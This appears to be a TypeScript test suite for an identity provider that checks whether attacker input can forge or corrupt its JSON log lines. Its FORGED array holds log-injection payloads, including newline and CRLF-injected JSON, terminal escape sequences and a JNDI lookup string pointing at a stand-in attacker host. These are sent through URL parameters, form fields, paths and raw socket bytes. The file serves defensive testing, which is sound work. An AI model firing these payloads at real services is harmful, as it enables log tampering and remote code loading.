import { once } from 'node:events';
import { connect } from 'node:net';
import { Writable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { expect } from 'chai';
import { pino } from 'pino';
import { openTarget, type Target } from '../support/attacker.ts';

/** Ends a line and begins another one that looks like ours, in the ways of JSON, of terminals and of tools for logs. */
const FORGED = [
  '\n{"level":30,"msg":"forged"}',
  '\r\n{"level":30,"msg":"forged"}',
  '","msg":"forged","x":"',
  '\u2028{"msg":"forged"}',
  '\u001b[2J\u001b]0;forged\u0007',
  '%0a{"msg":"forged"}',
  '${jndi:ldap://evil.example/forged}',
];

interface Line {
  readonly time?: unknown;
  readonly level?: unknown;
  readonly msg?: unknown;
  readonly ref?: unknown;
  readonly route?: string;
}

describe('attack: forging lines of the log', function () {
  this.timeout(60_000);
  let target: Target;
  let written = '';
  const log = pino(
    { level: 'debug' },
    new Writable({
      write(chunk: Buffer, _encoding, done) {
        written += chunk.toString();
        done();
      },
    }),
  );
  before(async () => {
    target = await openTarget({ log });
  });
  after(() => target.close());
  beforeEach(() => {
    written = '';
  });

  const lines = (): Line[] =>
    written
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line) as Line);

  /** Each line is a whole JSON value of ours, with its time and level; no line was made by the attacker. */
  const expectOurs = (): void => {
    const all = lines();
    expect(all).to.not.be.empty;
    for (const { time, level, msg } of all) {
      expect(time).to.be.a('number');
      expect(level).to.be.a('number');
      expect(msg ?? '').to.not.equal('forged');
    }
    expect(written).to.not.match(/[\u0000-\u0009\u000b-\u001f\u007f]/);
  };

  it('by any parameter, address, header or field of a form', async () => {
    const { issuer } = target.test;
    for (const forged of FORGED) {
      const { url } = await target.rp.request();
      for (const name of ['client_id', 'redirect_uri', 'state', 'scope', 'claims', 'login_hint', 'ui_locales']) {
        const changed = new URL(url);
        changed.searchParams.set(name, `x${forged}`);
        await (await fetch(changed, { redirect: 'manual' })).text();
      }
      for (const path of ['/', '/interaction/', '/nowhere/', '/relying-parties/']) {
        await (await fetch(`${issuer}${path}${encodeURIComponent(forged)}`, { redirect: 'manual' })).text();
      }
      const body = new URLSearchParams({ grant_type: forged, client_id: forged, code: forged, token: forged });
      for (const path of ['/token', '/par', '/token/introspection', '/token/revocation']) {
        await (await fetch(`${issuer}${path}`, { method: 'POST', body })).text();
      }
      const browser = target.from(`203.0.113.9${forged.replaceAll(/[^ -~]/g, ' ')}`);
      const page = await target.signInPage(browser);
      await browser.post(page.url, new URLSearchParams({ personal_number: forged, password: forged, [forged]: 'x' }));
    }
    expectOurs();
    expect(written).to.not.include('${jndi');
  });

  it('by bytes that are no request', async () => {
    for (const sent of [
      '\n{"level":30,"msg":"forged"}\r\n\r\n',
      'GET /\u001b[2J HTTP/1.1\r\nhost: a\r\n\r\n',
      '\u0000\u0001',
    ]) {
      const socket = connect(target.test.config.port, 'localhost');
      await once(socket, 'connect');
      socket.end(sent);
      await text(socket);
    }
    expectOurs();
    expect(written).to.not.include('forged');
  });

  it('each request has one line with a reference, its route, its status and how long it took', async () => {
    await (await fetch(`${target.test.issuer}/account/security?number=001190412073`, { redirect: 'manual' })).text();
    const [line, ...more] = lines().filter(({ route }) => route !== undefined);
    expect(more).to.deep.equal([]);
    expect(line).to.have.all.keys('level', 'time', 'pid', 'hostname', 'ref', 'method', 'route', 'status', 'ms');
    expect(line!.route).to.equal('/account/security');
  });
});
